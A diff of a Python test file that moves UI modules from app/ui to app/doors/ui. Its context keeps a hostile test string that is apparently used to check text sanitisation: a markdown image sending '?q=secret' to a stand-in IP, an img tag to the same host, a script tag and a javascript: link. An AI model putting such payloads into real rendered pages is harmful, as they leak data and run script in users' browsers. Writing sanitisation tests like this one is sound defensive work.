@@ -11,14 +11,14 @@ from pathlib import Path
 import pytest
 from markdown_it import MarkdownIt
 
-from app.i18n import keys, t
-from app.ui import safe_text
-from app.ui.audit_view import to_csv
-from app.ui.citation_marks import marked_answer, unsupported_sentences
-from app.ui.uploads import group_changes, is_hidden, split_hidden
+from app.doors.ui import safe_text
+from app.doors.ui.audit_view import to_csv
+from app.doors.ui.citation_marks import marked_answer, unsupported_sentences
+from app.doors.ui.i18n import keys, t
+from app.service.uploads import group_changes, is_hidden, split_hidden
 from ingest.manifest import FileRecord
 
-UI = Path(__file__).resolve().parent.parent / "app" / "ui"
+UI = Path(__file__).resolve().parent.parent / "app" / "doors" / "ui"
 HOSTILE = (
     "Bonus ![x](http://203.0.113.9/leak.png?q=secret) :red[ALERT] <img src=http://203.0.113.9/i.png>"
     " <script>alert(1)</script> [click](javascript:alert(1)) $x^2$ :material/warning: www.example.com"
@@ -202,7 +202,7 @@ def test_every_visible_string_of_a_page_is_a_key_in_both_languages(page: Path):
         assert any(k.startswith(prefix) for k in known), f"no UI text key starts with {prefix!r}"
     for key in literal:
         assert t(key, "en").strip() and t(key, "ja").strip(), key
-    assert _english_literals(tree) == [], "put these through tr() with an entry in app/i18n.py"
+    assert _english_literals(tree) == [], "put these through tr() with an entry in app/doors/ui/i18n.py"
 
 
 def test_a_missing_key_fails_the_check():
